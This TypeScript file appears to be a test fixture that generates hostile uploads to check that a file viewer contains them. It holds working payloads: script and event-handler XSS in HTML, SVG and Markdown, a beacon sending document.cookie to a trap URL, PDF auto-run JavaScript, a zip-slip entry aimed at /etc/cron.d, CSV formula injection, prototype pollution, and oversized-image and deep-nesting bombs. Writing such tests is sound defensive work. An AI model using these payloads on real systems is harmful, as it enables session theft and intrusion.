import { crc32 } from 'node:zlib';

/** A file of one endless line, whose name would like to be HTML. */
export const LONG_LINE = '"><img src=x onerror=alert(1)>.txt';

/** Names that the contract takes from nobody: one that climbs, one that turns around what is read of it. */
export const HOSTILE_NAMES = ['../../../../bomb.zip', 'invoice\u202Efdp.txt'];

/** What a hostile agent sends: each file tries to reach `trap`, the page around it, or the tab that shows it. */
export function hostileFiles(trap: string) {
  return [
    { type: 'html', name: 'attack.html', media_type: 'text/html', content: html(trap) },
    { type: 'image', name: 'attack.svg', media_type: 'image/svg+xml', content: svg(trap) },
    { type: 'markdown', name: 'attack.md', media_type: 'text/markdown', content: markdown(trap) },
    { type: 'image', name: 'huge.png', media_type: 'image/png', base64: hugePng().toString('base64') },
    { type: 'file', name: 'attack.pdf', media_type: 'application/pdf', base64: pdf(trap).toString('base64') },
    { type: 'file', name: 'bomb.zip', media_type: 'application/zip', base64: zip().toString('base64') },
    { type: 'text', name: LONG_LINE, media_type: 'text/plain', content: 'x'.repeat(900_000) },
    {
      type: 'json',
      name: 'attack.json',
      media_type: 'application/json',
      content:
        '[{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"<img src=x onerror=alert(1)>"}]',
    },
    { type: 'json', name: 'deep.json', media_type: 'application/json', content: '['.repeat(3_000) + ']'.repeat(3_000) },
    {
      type: 'file',
      name: 'attack.csv',
      media_type: 'text/csv',
      content: `name,link\n"=HYPERLINK(""${trap}/formula"",""pay"")",<img src="${trap}/cell">\n`,
    },
    {
      type: 'code',
      name: 'attack.js',
      media_type: 'text/javascript',
      content: `</code><script>fetch('${trap}/code')</script>`,
    },
  ];
}

const RUNS = (trap: string) =>
  `document.documentElement.dataset.ran = '1'; fetch('${trap}/fetch'); try { parent.document.title = 'pwned'; top.location = '${trap}/top' } catch {} new Image().src = '${trap}/beacon?' + document.cookie; window.open('${trap}/popup')`;

function html(trap: string): string {
  return `<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=${trap}/refresh">
<base href="${trap}/base/" target="_top">
<link rel="stylesheet" href="${trap}/style.css"><link rel="prefetch" href="${trap}/prefetch"><link rel="preload" as="image" href="${trap}/preload">
<link rel="icon" href="${trap}/icon"><link rel="manifest" href="${trap}/manifest"><link rel="preconnect" href="${trap}"><link rel="dns-prefetch" href="${trap}">
<style>@import url("${trap}/import.css"); @font-face { font-family: spy; src: url("${trap}/font") }
body { background: url("${trap}/background"); cursor: url("${trap}/cursor"), auto; font-family: spy }
input[value^="a"] { background-image: url("${trap}/leak-a") } li::before { content: url("${trap}/content") }</style>
<script>${RUNS(trap)}</script></head>
<body onload="${RUNS(trap).replaceAll('"', '&quot;')}"><h1>Looks nice</h1><li>one</li>
<img src="${trap}/img" srcset="${trap}/srcset 2x" onerror="${RUNS(trap).replaceAll('"', '&quot;')}"><video poster="${trap}/poster" src="${trap}/video" autoplay></video>
<audio src="${trap}/audio" autoplay></audio><iframe src="${trap}/iframe"></iframe><object data="${trap}/object"></object><embed src="${trap}/embed">
<svg><image href="${trap}/svg-image"/><use href="${trap}/use#a"/></svg><input type="image" src="${trap}/input"><input value="abc" autofocus>
<form action="${trap}/form" method="post" target="_top"><input name="a" value="b"><button id="post">Send</button></form>
<a id="top" href="${trap}/link-top" target="_top">top</a> <a id="blank" href="${trap}/link-blank" target="_blank" ping="${trap}/ping">blank</a>
<a id="self" href="${trap}/link-self" target="_self" ping="${trap}/ping">self</a> <a id="js" href="javascript:${RUNS(trap).replaceAll('"', '&quot;')}" target="_self">js</a>
</body></html>`;
}

function svg(trap: string): string {
  const run = RUNS(trap).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return `<?xml version="1.0"?><?xml-stylesheet href="${trap}/svg.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100" onload="${run}">
<script><![CDATA[${RUNS(trap)}]]></script><style>@import url("${trap}/svg-import"); rect { fill: url("${trap}/fill#a") }</style>
<rect width="200" height="100"/><image href="${trap}/svg-href" width="9" height="9"/><use xlink:href="${trap}/svg-use#a"/>
<a href="${trap}/svg-link" target="_top"><text y="60" id="svg-link">press</text></a>
<animate onbegin="${run}" attributeName="x" dur="1s"/><set attributeName="onload" to="${run}"/>
<foreignObject width="200" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${trap}/foreign"></iframe><img src="${trap}/foreign-img" onerror="${run}"/></body></foreignObject></svg>`;
}

function markdown(trap: string): string {
  return `# Looks nice

![a picture](${trap}/md-img) [press me](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [ours](/app/wallet)
[named as ours](https://bakeoff.example@127.0.0.1:9/login) [away](${trap}/md-link)

<script>fetch('${trap}/md-script')</script><img src="${trap}/md-html" onerror="fetch('${trap}/md-onerror')"><iframe src="${trap}/md-iframe"></iframe>
<style>body { background: url(${trap}/md-style) }</style><form action="${trap}/md-form"><input name="root" id="root"></form>

- [x] <a id="page" href="${trap}">done</a>
`;
}

/** Says that it has 900 million pixels. */
function hugePng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', Buffer.from('789c63000000010001', 'hex')),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
}

/** Runs a script and opens an address when it is opened, has a form that submits, and a link over the whole page. */
function pdf(trap: string): Buffer {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${trap}/pdf-js", true); this.submitForm("${trap}/pdf-submit"))>>/AA<</WC<</S/URI/URI(${trap}/pdf-aa)>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 100]/Contents 4 0 R/Annots[5 0 R]/Resources<</Font<</F 6 0 R>>>>>>',
    '<</Length 37>>stream\nBT /F 24 Tf 20 40 Td (Looks nice) Tj ET\nendstream',
    `<</Type/Annot/Subtype/Link/Rect[0 0 300 100]/A<</S/URI/URI(${trap}/pdf-link)>>>>`,
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  ];
  const body = objects.map((object, i) => `${i + 1} 0 obj${object}endobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size 7>>\n%%EOF\n`, 'latin1');
}

/** One entry whose name climbs out of its folder. */
function zip(): Buffer {
  const name = Buffer.from('../../../../etc/cron.d/evil');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(0xfffffff0, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, name]);
}
